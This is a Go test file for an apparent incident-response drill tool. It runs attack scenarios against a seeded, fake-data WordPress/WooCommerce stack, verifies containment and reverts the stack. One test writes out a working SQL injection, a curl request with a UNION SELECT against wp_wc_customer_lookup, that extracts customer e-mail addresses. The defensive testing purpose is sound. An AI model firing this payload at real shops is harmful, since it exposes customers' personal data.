package scenarios_test

import (
	"io"
	"io/fs"

	"bytes"
	"context"
	"fmt"
	"os"
	"os/exec"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/breachdrill/breachdrill/containers"
	"github.com/breachdrill/breachdrill/fakedata"
	"github.com/breachdrill/breachdrill/internal/stacktest"
	"github.com/breachdrill/breachdrill/scenarios"
)

// One seeded stack serves both tests; each gets it at its reset point.
var shared = stacktest.Shared{Customers: 200, Orders: 400, Seed: 7, RealWooCommerce: true}

func TestMain(m *testing.M) {
	code := m.Run()
	if err := shared.Close(); err != nil {
		fmt.Fprintln(os.Stderr, "remove the shared stack:", err)
	}
	os.Exit(code)
}

func seededStack(t *testing.T) (*containers.Stack, fakedata.Manifest, *fakedata.Dataset) {
	t.Helper()
	s := shared.Get(t)
	ds, err := fakedata.New(fakedata.Spec{Seed: shared.Seed, Customers: shared.Customers, Orders: shared.Orders})
	if err != nil {
		t.Fatal(err)
	}
	return s, shared.Manifest(), ds
}

// Every shipped scenario, for real: the inject's own want_status/want_body
// assertions prove the attack worked from outside; every containment check
// fails after the inject and passes after the response; and after revert
// the stack is back at its reset point.
func TestEveryScenarioAgainstARealStack(t *testing.T) {
	stack, manifest, ds := seededStack(t)
	cat, err := scenarios.Builtin()
	if err != nil {
		t.Fatal(err)
	}
	var cards []string
	for i := 0; len(cards) < 20 && i < 200; i++ {
		for _, c := range ds.Customer(i).Cards {
			cards = append(cards, c.Number())
		}
	}
	for _, s := range cat.All() {
		t.Run(s.ID, func(t *testing.T) {
			// host.exec steps (sqlmap) are allowed here as --allow-exec allows them.
			ctx, cancel := context.WithTimeout(scenarios.WithExecAllowed(context.Background()), 5*time.Minute)
			defer cancel()
			env := scenarios.NewEnv(stack, s.Artifacts)
			env.Cards = func(n int) []string { return cards[:n] }
			var leaked [][]byte
			env.Leaked = func(_ string, body []byte) { leaked = append(leaked, body) }
			defer func() {
				for _, st := range s.Revert {
					if err := st.Do.Run(ctx, env); err != nil {
						t.Errorf("revert %s: %v", st.Action, err)
					}
				}
				if _, err := stack.Reset(ctx); err != nil {
					t.Fatalf("reset: %v", err)
				}
				diffs, err := stack.VerifyReset(ctx)
				if err != nil {
					t.Fatal(err)
				}
				if len(diffs) > 0 {
					t.Errorf("after revert the stack differs from its reset point: %v", diffs)
				}
			}()

			for _, st := range s.WarmUp() {
				if err := st.Do.Run(ctx, env); err != nil {
					t.Fatalf("warmup %s (line %d): %v", st.Action, st.Line, err)
				}
			}
			for _, st := range s.Inject {
				if err := st.Do.Run(ctx, env); err != nil {
					t.Fatalf("inject %s (line %d): %v", st.Action, st.Line, err)
				}
			}
			for _, c := range s.Verify {
				res, err := c.Probe.Check(ctx, env)
				if err != nil {
					t.Fatalf("check %s: %v", c.Kind, err)
				}
				if res.Pass {
					t.Errorf("check %q passes before the response (%s): it proves nothing", c.Probe.Describe(), res.Detail)
				}
			}
			for _, st := range s.Respond {
				if err := st.Do.Run(ctx, env); err != nil {
					t.Fatalf("respond %s (line %d): %v", st.Action, st.Line, err)
				}
			}
			for _, c := range s.Verify {
				res, err := c.Probe.Check(ctx, env)
				if err != nil {
					t.Fatalf("check %s: %v", c.Kind, err)
				}
				if !res.Pass {
					t.Errorf("check %q fails after the response: %s", c.Probe.Describe(), res.Detail)
				}
			}
			// What the attacker took carries the seeded customers.
			if s.PersonalData() && len(leaked) > 0 {
				sc := fakedata.NewScanner(manifest.Canaries)
				records := int64(0)
				for _, b := range leaked {
					records += sc.ScanBytes(b).Records
				}
				if records == 0 {
					t.Errorf("the leaked data holds no personal data records")
				}
			}
		})
	}
}

// The SQL injection, replayed by hand with curl against the vulnerable
// endpoint, returns seeded customers' e-mail addresses: a canary proves
// which records leaked.
func TestSQLInjectionReplayedWithCurl(t *testing.T) {
	if _, err := exec.LookPath("curl"); err != nil {
		t.Fatal("curl is needed for this test: apt-get install curl")
	}
	stack, manifest, _ := seededStack(t)
	cat, _ := scenarios.Builtin()
	s, _ := cat.Get("ajax-sqli-exfiltration")
	ctx := context.Background()
	env := scenarios.NewEnv(stack, s.Artifacts)
	for _, st := range s.Inject[:2] { // install and activate the vulnerable plugin
		if err := st.Do.Run(ctx, env); err != nil {
			t.Fatal(err)
		}
	}
	out, err := exec.Command("curl", "-sS", "--max-time", "30",
		"--data-urlencode", "action=acme_order_status",
		"--data-urlencode", "order=0 UNION ALL SELECT c.customer_id, c.email, c.last_name FROM wp_wc_customer_lookup c",
		stack.URL()+"/wp-admin/admin-ajax.php").CombinedOutput()
	if err != nil {
		t.Fatalf("curl: %v\n%s", err, out)
	}
	rep := fakedata.NewScanner(manifest.Canaries).ScanBytes(out)
	if len(rep.Canaries) == 0 {
		t.Fatalf("no canary in the injection's answer (%d bytes): %.300s", len(out), out)
	}
	if !bytes.Contains(out, []byte(manifest.Canaries[0].Email)) && !strings.Contains(string(out), "@example") {
		t.Fatal("no seeded e-mail address in the answer")
	}
	t.Logf("curl replay returned %d bytes with %d canaries (%d data subjects)", len(out), len(rep.Canaries), rep.Subjects)
}

// Our own PHP (the stack's must-use plugin and helpers, every scenario
// artifact) compiles on the stack's PHP without a deprecation, warning or
// notice, with every error level on.
func TestOurPHPIsCleanOnTheStacksPHP(t *testing.T) {
	stack, _, _ := seededStack(t)
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	lint := func(name string, src io.Reader, path string) {
		cmd := []string{"php", "-d", "error_reporting=-1", "-d", "display_errors=stderr", "-d", "log_errors=0", "-l"}
		opts := []containers.ExecOption{}
		if path != "" {
			cmd = append(cmd, path)
		} else {
			opts = append(opts, containers.WithStdin(src))
		}
		res, err := stack.Exec(ctx, containers.ServiceWP, cmd, opts...)
		require.NoError(t, err, "php -l %s", name)
		out := string(res.Stdout) + string(res.Stderr)
		assert.Contains(t, out, "No syntax errors", "php -l %s", name)
		assert.NotRegexp(t, `(?i)deprecated|warning|notice|fatal|parse error`, out, "php -l %s", name)
	}
	installed := []string{
		"/var/www/html/wp-content/mu-plugins/breachdrill-audit.php",
		"/usr/local/share/breachdrill/prepend.php",
		"/usr/local/share/breachdrill/install.php",
	}
	for _, p := range installed {
		lint(p, nil, p)
	}
	n := 0
	require.NoError(t, fs.WalkDir(scenarios.BuiltinFS(), ".", func(p string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() || !strings.HasSuffix(p, ".php") {
			return err
		}
		b, err := fs.ReadFile(scenarios.BuiltinFS(), p)
		require.NoError(t, err)
		lint(p, bytes.NewReader(b), "")
		n++
		return nil
	}))
	assert.GreaterOrEqual(t, n, 4, "the scenario artifacts' PHP files were found")
}
